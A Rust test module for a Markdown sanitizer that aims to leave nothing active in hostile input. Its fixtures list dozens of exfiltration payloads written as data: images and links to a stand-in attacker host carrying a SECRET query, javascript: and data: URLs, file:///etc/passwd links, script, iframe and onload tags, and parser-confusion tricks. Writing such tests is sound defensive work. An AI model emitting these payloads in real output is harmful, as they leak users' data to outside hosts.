//! What is left of hostile Markdown, as a parser of Markdown sees it: no image, no HTML, no formula, and no link but to a plain
//! address.

use proptest::prelude::*;
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};

use super::{Extent, inert_markdown};

/// What a viewer would load, run or make a link of; addresses in the text outside of code included.
fn active(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut in_code = false;
    let mut words = String::new();
    // Settings in front of a document are looked for apart: the parser finds them anywhere.
    if text.lines().next().is_some_and(|line| line.len() >= 3 && line.bytes().all(|byte| byte == b'-')) {
        found.push("settings".to_owned());
    }
    let settings =
        Options::ENABLE_YAML_STYLE_METADATA_BLOCKS | Options::ENABLE_PLUSES_DELIMITED_METADATA_BLOCKS;
    for event in Parser::new_ext(text, Options::all() - settings) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code = false,
            Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url, .. }) if is_plain(&dest_url) => {}
            Event::Start(
                tag @ (Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock | Tag::FootnoteDefinition(_)),
            ) => found.push(format!("{tag:?}")),
            Event::Html(_)
            | Event::InlineHtml(_)
            | Event::InlineMath(_)
            | Event::DisplayMath(_)
            | Event::FootnoteReference(_) => found.push(format!("{event:?}")),
            Event::Text(piece) if !in_code => words.push_str(&piece),
            Event::Code(_) | Event::SoftBreak | Event::HardBreak | Event::End(_) => words.push('\n'),
            _ => {}
        }
    }
    let words = words.split_whitespace().map(|word| word.trim_end_matches(['?', '&', '.', ')', '"']));
    let has_more =
        |word: &&str| word.split_once("://").is_some_and(|(_, place)| place.contains(['?', '&', '@']));
    let addresses = words.filter(has_more);
    found.extend(addresses.map(str::to_owned));
    found
}

fn is_plain(address: &str) -> bool {
    (address.starts_with("https://") || address.starts_with("http://"))
        && !address.contains(['?', '#', '@', '%', '&', '\\', ' '])
}

#[test]
fn nothing_hostile_is_active() {
    let url = "https://evil.example/c?d=SECRET";
    let data = "data:text/html;base64,PHNjcmlwdD4=";
    let hostile = [
        // Images.
        format!("![x]({url})"),
        format!("![x](<{url}>)"),
        format!("![x]({url} \"title\")"),
        "![x](https://evil.example/SECRET.png)".to_owned(),
        format!("![x][ref]\n\n[ref]: {url}"),
        format!("![ref][]\n\n[ref]: {url}"),
        format!("![ref]\n\n[ref]: {url}"),
        format!("![ref]\n\n[ref]:\n{url}\n'title'"),
        format!("[![x]({url})](https://docs.example/a)"),
        format!("[![x][ref]][ref]\n\n> [ref]: {url}"),
        format!("![a ![b]({url}) c](https://docs.example/)"),
        format!("\\![x]({url})"),
        format!("\\\\![x]({url})"),
        format!("!\\[x]({url})"),
        format!("![x\n]({url})"),
        format!("- ![x]({url})\n\n1. > ![x]({url})"),
        format!("# ![x]({url})\n\n![x]({url})\n==="),
        format!("**![x]({url})**~~![y]({url})~~"),
        // HTML.
        format!("<img src=\"{url}\">"),
        format!("<IMG\nSRC={url}>"),
        format!("a <b onclick=\"x\">b</b> <img src={url}/>"),
        format!("<div>\n\n![x]({url})\n\n</div>"),
        format!("<!-- ` --> <img src={url}> `"),
        format!("<!--\n```\n-->\n<img src={url}>\n```"),
        format!("<pre>\n```\n</pre>\n<img src={url}>"),
        "<script>x</script>\n<style>@import url(x)</style>\n<?php x ?>\n<![CDATA[x]]>\n<!DOCTYPE x>"
            .to_owned(),
        format!("<svg/onload=x>\n<iframe src='{data}'></iframe>\n<a href=\"command:x\">y</a>"),
        format!("<a href=\"`\"><img src={url}>`"),
        // Links.
        format!("[x]({url})"),
        "[x](https://evil.example/#SECRET)".to_owned(),
        "[x](https://SECRET@evil.example/)".to_owned(),
        "[x](https://evil.example/%53%45)".to_owned(),
        "[x](https://evil.example/a/../b)".to_owned(),
        format!("[x](https://evil.example/{})", "c2VjcmV0".repeat(20)),
        format!("[x]({data})"),
        "[x](javascript:alert(1))".to_owned(),
        "[x](java&#115;cript:alert(1))".to_owned(),
        "[x](command:workbench.action.x?%5B1%5D)".to_owned(),
        "[x](vscode://file/etc/passwd)".to_owned(),
        "[x](file:///etc/passwd)".to_owned(),
        "[x](//evil.example/?d=SECRET)".to_owned(),
        "[x](https:&#47;/evil.example/?d=SECRET)".to_owned(),
        "[x](https://evil.example/&quest;d=SECRET)".to_owned(),
        "[x](https\\://evil.example/\\?d=SECRET)".to_owned(),
        format!("[x][r]\n\n[r]: <{url}> (title)"),
        format!("[x][]\n[x]\n\n[x]: {data}"),
        format!("[^1]\n\n[^1]: ![x]({url})"),
        format!("[[x]]({url})"),
        // Addresses of which viewers make links.
        url.to_owned(),
        format!("<{url}>"),
        format!("see {url}, ({url}) or \"{url}\"."),
        "HTTPS://EVIL.EXAMPLE/?D=SECRET ftp://evil.example/?d www.evil.example/?d=SECRET".to_owned(),
        "mailto:a@evil.example?body=SECRET".to_owned(),
        "_https://evil.example/?d=SECRET_ \\-https://evil.example/?d=SECRET".to_owned(),
        "https:\\/\\/evil.example/?d=SECRET https&#58;//evil.example/?d=SECRET".to_owned(),
        "https:&#47;/evil.example/?d=SECRET &#x68;ttps://evil.example/?d=SECRET".to_owned(),
        "https:////evil.example/?d=SECRET https:///evil.example/?d=SECRET ///evil.example/?d".to_owned(),
        "---https://evil.example/?d=SECRET `".to_owned(),
        "https://evil.example/\"SECRET\" https://evil.example/x|SECRET?d".to_owned(),
        // What looks like code to one reader and not to another.
        format!("a ` b\nc ` <img src={url}> `"),
        format!("a ` b\n- <img src={url}> ` c"),
        format!("`` ` ![x]({url}) ` ![y]({url}) ``` "),
        format!("\\` ![x]({url}) `"),
        format!("| `x | <img src={url}> ` |\n|---|---|\n| `y | ![x]({url}) ` |"),
        format!("| a |\n|---|\n| `x \\| ![x]({url}) ` |"),
        format!("x | y\n-|-\n`a | ![x]({url}) `"),
        format!("> ```\n![x]({url})\n```\n![x]({url})"),
        format!("> ~~~\n> ![x]({url})\n\n![x]({url})"),
        format!("- a\n  ```\n![x]({url})\n"),
        format!("- a\n  ```\n  x\n```\n![x]({url})\n"),
        format!("1. a\n   ~~~ `\n   x\n   ~~~\n![x]({url})"),
        format!("- - ~~~\n    x\n    ~~~\n![x]({url})"),
        format!("- > ```\n  > x\n\n![x]({url})\n```\n![x]({url})"),
        format!("para\n     ```\n     ``` ![x]({url})\n     `````\n![x]({url})"),
        format!("para\n\n     ```\n![x]({url})"),
        format!("```x`\n![x]({url})\n```\n![y]({url})"),
        format!("~~~x`\n![x]({url})\n~~~\n![y]({url})"),
        format!("````\n```\n![x]({url})\n`````\n![y]({url})"),
        format!("\t```\n![x]({url})\n\t```\n![y]({url})"),
        format!("---\n```\n---\n![x]({url})"),
        format!("\u{feff}---\na: `\n---\n![x]({url}) `"),
        format!("$$\n```\n$$\n![x]({url})"),
        format!("$`$ ![x]({url}) `$"),
        format!("a\r![x]({url})\r\n<img src={url}>\u{0}\u{b}<img>"),
        "```mermaid\nclick A \"https://evil.example/?d=SECRET\"\n```".to_owned(),
    ];
    for text in hostile {
        let inert = inert_markdown(&text, Extent::Whole);
        assert_eq!(active(&inert), Vec::<String>::new(), "{text}\n{inert}");
        assert!(!inert.contains("```mermaid"), "{inert}");
        // The same behind and below other text, and as it grows.
        let around = format!("It adds.\n\n{text}\n\nIt returns.\n");
        assert_eq!(active(&inert_markdown(&around, Extent::Whole)), Vec::<String>::new(), "{around}");
        for (end, _) in text.char_indices() {
            let growing = inert_markdown(&text[..end], Extent::Growing);
            assert_eq!(active(&growing), Vec::<String>::new(), "{}\n{growing}", &text[..end]);
        }
    }
}

#[test]
fn the_parser_of_this_test_sees_what_is_active() {
    for hostile in
        ["![x](https://e.example/a)", "<img>", "[x](https://e.example/?d)", "[x]\n\n[x]: /y", "$x$"]
    {
        assert!(!active(hostile).is_empty(), "{hostile}");
    }
}

#[test]
fn what_explains_code_stays_what_it_is() {
    let harmless = [
        "It **sums** the `rows`, *once*, and ~~never~~ returns `Vec<u8>` or `a[0]`.\n",
        "# Title\n\n1. One\n2. Two\n   - `x | y`\n\n> a quote\n\n---\n",
        "```rust\nfn f(a: &[u8]) -> Vec<u8> { a[0]; \"<img>\" }\n![x](https://e.example/?d)\n```\n",
        "1. Call it:\n\n   ```python\n   x = rows[0]  # <b>\n\n   y = f\"{x}$\"\n   ```\n2. Done.\n",
        "~~~\n```\n~~~\n",
        "| Name | Type |\n|------|:----:|\n| `a` | `Vec<u8>` |\n",
        "See [the docs](https://docs.example/std/vec.html), [`Vec`](https://docs.example/vec) and https://docs.example/a-b_c.\n",
        "``a ` b`` and C++ \\* x & y, x &lt; y; a && b; AT&T: 3 > 2!\n",
        "",
        "No line break at the end",
        "```\nfn open_block() {\n",
    ];
    for text in harmless {
        assert_eq!(inert_markdown(text, Extent::Whole), text);
    }
}

#[test]
fn what_stands_in_no_code_is_shown_as_text() {
    for (text, shown) in [
        ("a[i] < b", "a\\[i] < b"),
        ("Vec<u8> \\<b>", "Vec&lt;u8> &lt;b>"),
        ("an odd ` one", "an odd \\` one"),
        ("https://e.example/?d", "`https://e.example/?d`"),
        ("- ```py\n  x\n  ```\n", "-\n  ```py\n  x\n  ```\n"),
        ("- a\n  ```\nx\n```\n", "- a\n  ```\n  x\n  ```\n"),
        ("a\u{1b}[2Jb", "a\\[2Jb"),
        ("```mermaid\nx\n```", "```text\nx\n```"),
    ] {
        assert_eq!(inert_markdown(text, Extent::Whole), shown);
    }
}

#[test]
fn what_grows_is_not_taken_back_when_code_or_a_link_is_closed() {
    let text = "It takes `Vec<u8>` and see [docs](https://docs.example/a) at https://docs.example/b now.\n\n```rust\nlet a = b[0];\n```\nEnd.\n";
    let mut before = String::new();
    for (end, _) in text.char_indices() {
        let growing = inert_markdown(&text[..end], Extent::Growing);
        assert!(growing.trim_end().starts_with(before.trim_end()), "{before:?} {growing:?}");
        before = growing;
    }
    assert!(inert_markdown(text, Extent::Whole).starts_with(before.trim_end()));
}

/// Pieces that open, close or hide something.
fn piece() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "~",
        "\n",
        "\n\n",
        "\n",
        " ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "# ",
        "|",
        "---",
        "|---|",
        "===",
        "<img src=x>",
        "<!--",
        "-->",
        "<pre>",
        "</pre>",
        "<",
        ">",
        "![x](https://e.example/?d=1)",
        "![",
        "!",
        "[",
        "]",
        "](",
        "(",
        ")",
        "[r]",
        "[r]: https://e.example/?d=1\n",
        "https://e.example/?d=1",
        "https://",
        "//",
        "www.",
        "\\",
        "$",
        "$$",
        "&#96;",
        "&lt;",
        "a",
        "word",
        "*",
        "**",
        "_",
        "\"",
        "'",
        "{",
        "}",
        ":",
        "+",
        "  \n",
        "\r",
        "py",
        "[x](https://docs.example/a)",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_mixture_is_active(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        for extent in [Extent::Whole, Extent::Growing] {
            let inert = inert_markdown(&text, extent);
            prop_assert_eq!(active(&inert), Vec::<String>::new(), "{}\n{}", text, inert);
        }
    }

    #[test]
    fn what_is_inert_stays_inert_when_it_is_treated_again(text in "[a-z`<\\[\\]()! \\n~>-]{0,40}") {
        let once = inert_markdown(&text, Extent::Whole);
        prop_assert_eq!(active(&inert_markdown(&once, Extent::Whole)), Vec::<String>::new());
    }
}
